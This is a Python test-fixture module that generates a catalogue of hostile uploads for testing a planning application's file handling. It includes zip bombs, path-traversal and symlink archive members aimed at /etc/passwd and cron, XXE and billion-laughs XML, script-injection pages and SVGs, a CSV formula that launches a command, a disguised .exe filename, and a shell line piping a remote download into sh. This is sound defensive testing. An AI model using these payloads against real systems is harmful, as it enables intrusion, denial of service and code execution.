"""
What an attacker, or an unlucky program, hands in as a file: one catalogue for every way in.

Each file is made here in code and is small, whatever it would like to become.
"""

from __future__ import annotations

import bz2
import io
import json
import stat
import struct
import zipfile
import zlib
from functools import cache
from typing import TYPE_CHECKING

from zusammenplan.core.tests.office_files import (
    LATE,
    LAUGHS,
    ROW,
    SHEET,
    STRINGS,
    TABLE,
    XXE,
    bomb,
    bomb_of_many,
    crowd,
    docx,
    liar,
    links,
    locked,
    ole,
    twins,
    xlsx,
    zipped,
)

if TYPE_CHECKING:
    from collections.abc import Callable

PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 300, 200) + b"\x08\x02\0\0\0"
JPEG = b"\xff\xd8\xff\xe0\0\4\0\0\xff\xc0\0\x11\x08\0\xc8\1\x2c" + b"\3" * 12
SCRIPT = "<script>alert(1)</script>"
RIGHT_TO_LEFT = "\N{RIGHT-TO-LEFT OVERRIDE}"
HEAD = "Nr.;Maßnahme;Handlungsfeld;Status;Zeitraum\n"
SQUARE = [[[10.3, 50.9], [10.4, 50.9], [10.4, 51.0], [10.3, 51.0], [10.3, 50.9]]]


# Tables


def sheet(value: str, **others: str) -> bytes:
    """Make a sheet of areas and figures whose last cell holds this value."""
    text = '<c r="{}" t="inlineStr"><is><t>{}</t></is></c>'
    rows = (
        f'<row r="1">{text.format("A1", "Gebiet")}{text.format("B1", "2022")}</row>'
        f'<row r="2">{text.format("A2", "Altenschlag")}<c r="B2"><v>{value}</v></c></row>'
    )
    return xlsx(f"<sheetData>{rows}</sheetData>", **others)


def one_text_in_every_cell() -> bytes:
    """Name one long text from many cells, so that each would be a copy of it."""
    text = f"<si><t>{'A' * 500_000}_x0041_</t></si>"
    cells = "".join(f'<c r="A{row}" t="s"><v>0</v></c>' for row in range(1, 2))
    rows = "".join(
        f'<row r="{row}">{cells.replace("A1", f"A{row}")}</row>' for row in range(1, 40_001)
    )
    strings = f'<sst xmlns="{SHEET}">{text}</sst>'
    return xlsx(f"<sheetData>{rows}</sheetData>", **{"xl/sharedStrings.xml": strings})


def endless_decimals() -> bytes:
    """Show each number with a million decimals."""
    code = f"0.{'0' * 900_000}"
    styles = (
        f'<styleSheet xmlns="{SHEET}"><numFmts><numFmt numFmtId="200" formatCode="{code}"/>'
        '</numFmts><cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    )
    cells = "".join(f'<row r="{row}"><c r="A{row}"><v>1</v></c></row>' for row in range(1, 501))
    relations = links(worksheet="worksheets/sheet1.xml", styles="styles.xml")
    return xlsx(
        f"<sheetData>{cells}</sheetData>",
        **{"xl/styles.xml": styles, "xl/_rels/workbook.xml.rels": relations},
    )


def deep_document() -> bytes:
    return docx("<w:tbl><w:tr><w:tc>" * 20_000)


def deep_sheet() -> bytes:
    return xlsx(f'<sheetData><row r="1"><c r="A1" t="inlineStr"><is>{"<r>" * 50_000}')


# Archives


def named(name: str) -> bytes:
    return zipped({name: HEAD})


def linked() -> bytes:
    """Pack a symbolic link to a file of the machine, named like a table."""
    entry = zipfile.ZipInfo("tabelle.csv")
    entry.create_system = 3
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr(entry, "/etc/passwd")
    return content.getvalue()


def packed_by(method: int, small: bytes, *, name: str = "tabelle.csv") -> bytes:
    """Put in by hand what was packed with a method that nothing holds back when it is unpacked."""
    head = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 33, 0, len(small), 90, len(name), 0)
    local = b"PK\3\4" + head + name.encode() + small
    middle = b"PK\1\2\x14\0" + head + bytes(2 + 2 + 2 + 4) + struct.pack("<I", 0) + name.encode()
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(middle), len(local), 0)
    return local + middle + end


def squeezed(name: str) -> bytes:
    """Pack 45 MB a block: the 4 kB that are unpacked at once would become gigabytes."""
    return packed_by(zipfile.ZIP_BZIP2, bz2.compress(bytes(5_000_000)), name=name)


def packed_broken() -> bytes:
    return packed_by(zipfile.ZIP_LZMA, b"\x09\x04\x05\0\x5d\0\0\0\xff" + b"\x99" * 90)


def packed_unknown() -> bytes:
    return packed_by(99, b"x" * 90)


def overlapping() -> bytes:
    """Let many entries share the same bytes."""
    small = zlib.compress(bytes(1_000_000), 9)[2:-4]
    name = b"0.csv"
    head = struct.pack(
        "<HHHHHIIIHH", 20, 0, 8, 0, 33, zlib.crc32(bytes(1_000_000)), len(small), 1_000_000, 5, 0
    )
    local = b"PK\3\4" + head + name + small
    middle = b"".join(
        b"PK\1\2\x14\0" + head + bytes(10) + struct.pack("<I", 0) + f"{at:05}"[-5:].encode()
        for at in range(1900)
    )
    end = b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1900, 1900, len(middle), len(local), 0)
    return local + middle + end


def nested() -> bytes:
    content = HEAD.encode()
    for depth in range(30):
        content = zipped({f"{depth}.zip": content})
    return content


def packed_table() -> bytes:
    return zipped({"tabelle.csv": b"0" * 30_000_000})


# Areas


def areas(name: object = "Altenschlag", shape: object = None, **more: object) -> bytes:
    shape = {"type": "Polygon", "coordinates": SQUARE} if shape is None else shape
    feature = {"type": "Feature", "properties": {"name": name, **more}, "geometry": shape}
    return json.dumps({"type": "FeatureCollection", "features": [feature]}).encode()


def deep_collection() -> bytes:
    inner = '{"type":"GeometryCollection","geometries":['
    shape = f"{inner * 900}{']}' * 900}"
    return areas(shape="?").replace(b'"?"', shape.encode())


def corner(written: str) -> bytes:
    """Write a number that JSON's own writer would not write into an outline."""
    return areas().replace(b"50.9", written.encode(), 1)


HOSTILE: dict[str, tuple[str, bytes | Callable[[], bytes]]] = {
    # Nothing, or not what it seems
    "nothing": ("leer.csv", lambda: b""),
    "blanks": ("leer.csv", lambda: b"\xef\xbb\xbf \r\n\t "),
    "a zero byte": ("tabelle.csv", lambda: b"1;2\n3;\x004\n"),
    "bytes of any kind": ("tabelle.csv", lambda: bytes(range(256)) * 9),
    "a program for Windows": ("tabelle.csv", lambda: b"MZ\x90\0\3\0\0\0" + bytes(90)),
    "a program for Linux": ("bild.png", lambda: b"\x7fELF\2\1\1\0" + bytes(90)),
    "a script for the shell": ("skript.txt", lambda: b"#!/bin/sh\ncurl http://boese.example|sh\n"),
    "an old workbook": ("tabelle.xls", lambda: ole("Workbook")),
    "an old workbook with a password": ("tabelle.xlsx", lambda: ole("EncryptedPackage")),
    "a compressed file": ("tabelle.csv.gz", lambda: b"\x1f\x8b\x08" + bytes(50)),
    # Pages and drawings with a script
    "a page": ("tabelle.csv", f"<!doctype html>{SCRIPT}".encode()),
    "a page called a picture": ("bild.png", f"<html>{SCRIPT}".encode()),
    "a drawing with a script": (
        "bild.svg",
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}'.encode(),
    ),
    "a drawing that reads a file": (
        "bild.svg",
        f'<?xml version="1.0"?>{XXE}<svg>&b;</svg>'.encode(),
    ),
    "a drawing that laughs": (
        "bild.png",
        f'<?xml version="1.0"?>{LAUGHS}<svg>&c;</svg>'.encode(),
    ),
    # Two things at once
    "a PDF that is a page": ("plan.html", f"<html>{SCRIPT}\n%PDF-1.7\n".encode()),
    "a page behind a PDF's sign": ("plan.html", f"%PDF-1.7\n{SCRIPT}".encode()),
    "a picture that is an archive": (
        "bild.gif",
        lambda: b"GIF89a\1\0\1\0" + zipped({"Boese.class": b"\xca\xfe\xba\xbe"}),
    ),
    "a workbook that is a document": (
        "plan.xlsx",
        lambda: docx(TABLE, **{"xl/workbook.xml": "<workbook/>"})[:-30],
    ),
    "a picture by its sign alone": ("bild.png", lambda: b"\x89PNG\r\n\x1a\n" + SCRIPT.encode()),
    "a picture of 3.6 billion points": (
        "bild.png",
        lambda: PNG[:16] + struct.pack(">II", 60_000, 60_000) + PNG[24:],
    ),
    "a picture cut off": ("bild.jpg", lambda: JPEG[:11]),
    "a picture that goes round in circles": (
        "bild.jpg",
        lambda: b"\xff\xd8\xff\xe0\0\0" + b"\xff\xe0\0\0" * 500,
    ),
    # XML
    "a workbook that reads a file": (
        "plan.xlsx",
        lambda: xlsx(ROW, **{"xl/sharedStrings.xml": XXE + STRINGS}),
    ),
    "a workbook that laughs": (
        "plan.xlsx",
        lambda: xlsx(ROW, **{"xl/sharedStrings.xml": LAUGHS + STRINGS}),
    ),
    "a workbook that laughs late": (
        "plan.xlsx",
        lambda: xlsx(ROW, **{"xl/sharedStrings.xml": LATE + LAUGHS + STRINGS}),
    ),
    "a workbook that laughs in UTF-16": (
        "plan.xlsx",
        lambda: xlsx(ROW, **{"xl/sharedStrings.xml": (LAUGHS + STRINGS).encode("utf-16")}),
    ),
    "a document that reads a file": (
        "plan.docx",
        lambda: docx(TABLE, **{"word/settings.xml": f"{XXE}<a/>"}),
    ),
    "a document of endless depth": ("plan.docx", deep_document),
    "a workbook of endless depth": ("plan.xlsx", deep_sheet),
    "a workbook with macros": ("plan.xlsm", lambda: xlsx(ROW, **{"xl/vbaProject.bin": b"x"})),
    "a document with macros": ("plan.docx", lambda: docx(TABLE, **{"word/vbaProject.bin": b"x"})),
    "a link out of the file": (
        "plan.xlsx",
        lambda: xlsx(
            ROW, **{"xl/_rels/workbook.xml.rels": links(worksheet="../../../../etc/passwd")}
        ),
    ),
    # Archives
    "a bomb": ("plan.xlsx", bomb),
    "a bomb of many": ("plan.xlsx", bomb_of_many),
    "a crowd of members": ("plan.xlsx", crowd),
    "false sizes": ("plan.xlsx", liar),
    "members that share their bytes": ("plan.zip", overlapping),
    "an archive in an archive in an archive": ("plan.zip", nested),
    "a table that unpacks to much more": ("plan.zip", packed_table),
    "a table packed with bzip2": ("plan.zip", lambda: squeezed("tabelle.csv")),
    "a workbook packed with bzip2": ("plan.xlsx", lambda: squeezed("xl/workbook.xml")),
    "a document packed with bzip2": ("plan.odt", lambda: squeezed("mimetype")),
    "a broken member packed with LZMA": ("plan.zip", packed_broken),
    "a member packed in an unknown way": ("plan.zip", packed_unknown),
    "a member with a password": ("plan.xlsx", locked),
    "two members of one name": ("plan.xlsx", twins),
    "a name that climbs": ("plan.zip", lambda: named("../../../../tmp/boese.csv")),
    "a name from the root": ("plan.zip", lambda: named("/etc/cron.d/boese.csv")),
    "a link as a member": ("plan.zip", linked),
    "an archive cut off": ("plan.xlsx", lambda: xlsx(ROW)[:-40]),
    "an archive by its sign alone": ("plan.docx", lambda: b"PK\3\4" + b"\x99" * 500),
    # Tables
    "a cell of a million signs": ("tabelle.csv", f"{HEAD}1;{'x' * 1_000_000}\n".encode()),
    "a million columns": ("tabelle.csv", lambda: HEAD.encode() + b";" * 1_000_000),
    "a line without an end": ("tabelle.csv", lambda: b"x" * 3_000_000),
    "a quotation mark without its other": (
        "tabelle.csv",
        f'{HEAD}1;"{"x;" * 300_000}'.encode(),
    ),
    "a row far below": (
        "plan.xlsx",
        lambda: xlsx(
            '<sheetData><row r="99999999"><c r="A99999999"><v>1</v></c></row></sheetData>'
        ),
    ),
    "a cell merged over everything": (
        "plan.docx",
        lambda: docx(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr></w:tc></w:tr>'
            "</w:tbl>"
        ),
    ),
    "a number with an endless exponent": ("plan.xlsx", lambda: sheet("1e999999999")),
    "a number with a large exponent": ("plan.xlsx", lambda: sheet("1e99999")),
    "a number with a small exponent": ("plan.xlsx", lambda: sheet("1e-99999999")),
    "a number of ten thousand digits": ("plan.xlsx", lambda: sheet("9" * 10_000)),
    "no number": ("plan.xlsx", lambda: sheet("NaN")),
    "one long text in every cell": ("plan.xlsx", one_text_in_every_cell),
    "numbers with endless decimals": ("plan.xlsx", endless_decimals),
    "half of a pair in a workbook": (
        "plan.xlsx",
        lambda: xlsx(ROW.replace("1.1", "Nr.;_xD800__x0000_")),
    ),
    "a formula that calls": (
        "tabelle.csv",
        f"{HEAD}1;=cmd|' /C calc'!A0;@SUM(1);-1+1;\n".encode(),
    ),
    # Letters
    "UTF-7": ("tabelle.csv", lambda: f"{HEAD}1;{SCRIPT}".encode("utf-7")),
    "UTF-16 without its mark": ("tabelle.csv", lambda: f"{HEAD}1;2\n".encode("utf-16-le")),
    "half a letter": ("tabelle.csv", lambda: b"\xff\xfe" + HEAD.encode("utf-16-le") + b"\0"),
    "two encodings": ("tabelle.csv", lambda: HEAD.encode() + "1;Mühle\n".encode("latin-1")),
    "half of a pair in a table": (
        "tabelle.csv",
        lambda: HEAD.encode() + "1;\ud800\n".encode("utf-8", "surrogatepass"),
    ),
    "overlong letters": ("tabelle.csv", lambda: HEAD.encode() + b"1;\xc0\xbcscript\xc0\xbe\n"),
    # JSON
    "lists in lists": ("gebiete.json", lambda: b"[" * 100_000),
    "areas in lists in lists": (
        "gebiete.geojson",
        lambda: b'{"type":"FeatureCollection","features":' + b"[" * 100_000,
    ),
    "shapes in shapes": ("gebiete.geojson", deep_collection),
    "a corner that is no number": ("gebiete.geojson", lambda: corner("NaN")),
    "a corner without an end": ("gebiete.geojson", lambda: corner("-Infinity")),
    "a corner of 400 digits": ("gebiete.geojson", lambda: corner("9" * 400)),
    "a corner of 5000 digits": ("gebiete.geojson", lambda: corner("9" * 5000)),
    "a corner with an endless exponent": ("gebiete.geojson", lambda: corner("1e999999999")),
    "corners that are words": (
        "gebiete.geojson",
        lambda: areas(shape={"type": "Polygon", "coordinates": "überall"}),
    ),
    "shapes that are a number": (
        "gebiete.geojson",
        lambda: areas(shape={"type": "MultiPolygon", "coordinates": 5}),
    ),
    "a collection that is a number": (
        "gebiete.geojson",
        lambda: areas(shape={"type": "GeometryCollection", "geometries": 5}),
    ),
    "half of a pair in a name": ("gebiete.geojson", lambda: areas("Alten\ud800schlag")),
    "a zero byte in a name": ("gebiete.geojson", lambda: areas("Alten\0schlag")),
    "a name that is a list": ("gebiete.geojson", lambda: areas([["Altenschlag"]])),
    "a key that is a list": ("gebiete.geojson", lambda: areas(ags=[1], ars={"a": 1})),
    "a service that answers in half a pair": (
        "antwort.json",
        lambda: b'{"Status": {"Code": "\\ud800", "Content": "\\ud800"}}',
    ),
    # Names
    "a name that climbs out of the folder": (
        "../../../../etc/cron.d/tabelle.csv",
        lambda: bytes(range(256)),
    ),
    "a name that runs backwards": (f"plan{RIGHT_TO_LEFT}fdp.exe", lambda: b"MZ\x90\0" + bytes(90)),
    "a name with a script": (f"{SCRIPT}.csv", lambda: bytes(range(256))),
    "a name with a new line": ("a\r\nSet-Cookie: a=b\r\n.csv", lambda: bytes(range(256))),
    "a name of ten thousand signs": ("ä" * 10_000 + ".csv", lambda: bytes(range(256))),
}


@cache
def content_of(name: str) -> bytes:
    """Make the file once, for all who take it."""
    _file, content = HOSTILE[name]
    return content if isinstance(content, bytes) else content()
